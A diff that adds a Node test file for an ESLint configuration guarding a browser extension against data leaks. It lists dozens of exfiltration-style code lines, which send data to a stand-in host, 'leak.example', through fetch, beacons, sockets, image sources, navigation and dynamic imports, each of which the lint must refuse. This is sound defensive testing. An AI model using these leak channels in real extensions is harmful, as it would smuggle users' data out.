@@ -1,0 +1,99 @@
+// Each way out that the lint closes, tried: a line that must be refused, and lines like those that ship, which must not.
+
+import assert from 'node:assert/strict';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { ESLint } from 'eslint';
+import { ROOT } from './harness.mjs';
+
+const eslint = new ESLint({ cwd: ROOT, overrideConfigFile: join(ROOT, 'tests/browser/lint/eslint.config.mjs') });
+
+const REFUSED_EVERYWHERE = [
+  'fetch("https://leak.example/");',
+  'window.fetch("https://leak.example/");',
+  'globalThis["fe" + "tch"]("https://leak.example/");',
+  'new XMLHttpRequest();',
+  'new WebSocket("wss://leak.example/");',
+  'new EventSource("https://leak.example/");',
+  'navigator.sendBeacon("https://leak.example/", "x");',
+  'const n = navigator; n.sendBeacon("https://leak.example/", "x");',
+  'new Image().src = "https://leak.example/";',
+  'document.images[0].src = "https://leak.example/";',
+  'document.createElement("img");',
+  'document.createElement("a").click();',
+  'document.body.setAttribute("background", "https://leak.example/");',
+  'new RTCPeerConnection();',
+  'self.RTCPeerConnection;',
+  'open("https://leak.example/");',
+  'window.open("https://leak.example/");',
+  'location.href = "https://leak.example/";',
+  'location = "https://leak.example/";',
+  'window.location = "https://leak.example/";',
+  'location.assign("https://leak.example/");',
+  'history.pushState(null, "", "?note");',
+  'chrome.tabs.create({ url: "https://leak.example/" });',
+  'chrome.tabs.update(1, { url: "https://leak.example/" });',
+  'chrome.storage.sync.set({ note: "text" });',
+  'chrome.downloads.download({ url: "https://leak.example/" });',
+  'localStorage.setItem("note", "text");',
+  'indexedDB.open("notes");',
+  'document.cookie = "note=text";',
+  'document.title = "text";',
+  'console.log("text");',
+  'eval("1");',
+  'new Function("return 1")();',
+  'setTimeout("fetch()", 1);',
+  'import("https://leak.example/x.js");',
+  'const x = "./x.js"; import(x);',
+  'document.body.innerHTML = "<img>";',
+  'document.body.insertAdjacentHTML("beforeend", "<img>");',
+  'document.write("<img>");',
+  'new DOMParser();',
+];
+
+const REFUSED_IN_CONTENT = [
+  'document.body.append("x");',
+  'document.createElement("div");',
+  'document.body.textContent = "x";',
+  'document.body.classList.add("x");',
+  'document.body.dataset.x = "1";',
+  'document.body.style.color = "red";',
+  'chrome.storage.local.get("x");',
+  'window.postMessage("x", "*");',
+  'window.parent.postMessage("x", "*");',
+  'document.dispatchEvent(new Event("x"));',
+];
+
+const ALLOWED = [
+  ['extension/panel/view.js', 'document.body.textContent = "x"; export const x = 1;'],
+  ['extension/panel/view.js', 'navigator.clipboard.writeText("x");'],
+  ['extension/panel/engine.js', 'const PACK = new URL("../knowledge.pack", import.meta.url).href; fetch(PACK);'],
+  ['extension/content/paint.js', 'CSS.highlights.set("x", new Highlight(document.createRange()));'],
+];
+
+async function refusals(file, source) {
+  const [result] = await eslint.lintText(source, { filePath: join(ROOT, file) });
+  return result.messages.filter((message) => message.severity === 2);
+}
+
+for (const source of REFUSED_EVERYWHERE) {
+  test(`refused: ${source}`, async () => {
+    assert.notDeepEqual(await refusals('extension/panel/view.js', source), []);
+    assert.notDeepEqual(await refusals('extension/panel/engine.js', source), []);
+    assert.notDeepEqual(await refusals('extension/background.js', source), []);
+    assert.notDeepEqual(await refusals('extension/content/main.js', source), []);
+  });
+}
+
+for (const source of REFUSED_IN_CONTENT) {
+  test(`refused in the content script: ${source}`, async () => {
+    assert.notDeepEqual(await refusals('extension/content/main.js', source), []);
+  });
+}
+
+for (const [file, source] of ALLOWED) {
+  test(`allowed in ${file}: ${source}`, async () => {
+    const messages = await refusals(file, source);
+    assert.deepEqual(messages.map((message) => message.message), []);
+  });
+}
